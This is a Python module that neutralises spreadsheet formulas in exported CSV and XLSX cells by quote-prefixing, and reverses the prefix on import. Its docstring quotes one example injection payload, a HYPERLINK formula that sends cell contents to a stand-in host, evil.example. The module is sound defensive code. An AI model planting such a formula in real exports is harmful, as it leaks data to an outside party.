"""Spreadsheet cells neutralized against formulas: every CSV and XLSX cell the product writes passes here.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some a tab or carriage return
before them) as a formula: a record named ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would run on the
auditor's machine when the export is opened. :func:`safe_cell` prefixes such text with one single quote, which
spreadsheets show as text; numbers, dates and booleans stay what they are.

The prefix is reversible, so that a file we exported imports back to the same values: :func:`unescape_cell` removes
one leading quote exactly when :func:`safe_cell` would have added it. Text that itself starts with quotes before a
trigger character (``'=x``) gets one more quote on the way out (``''=x``) and loses it on the way in.
"""

from __future__ import annotations

#: The first characters that make a spreadsheet read a cell as a formula.
TRIGGERS = frozenset({"=", "+", "-", "@", "\t", "\r"})
QUOTE = "'"


def _after_quotes_is_trigger(text: str) -> bool:
    rest = text.lstrip(QUOTE)
    return bool(rest) and rest[0] in TRIGGERS


def safe_cell(value):
    """``value`` as a cell that no spreadsheet evaluates: text starting with a trigger (after any quotes) gets a
    leading single quote; anything that is not text is returned unchanged."""
    if isinstance(value, str) and _after_quotes_is_trigger(value):
        return QUOTE + value
    return value


def unescape_cell(value):
    """The value :func:`safe_cell` was given: one leading quote removed where it added one."""
    if isinstance(value, str) and value.startswith(QUOTE) and _after_quotes_is_trigger(value):
        return value[1:]
    return value


def safe_row(values):
    """:func:`safe_cell` of each value, as a list."""
    return [safe_cell(v) for v in values]
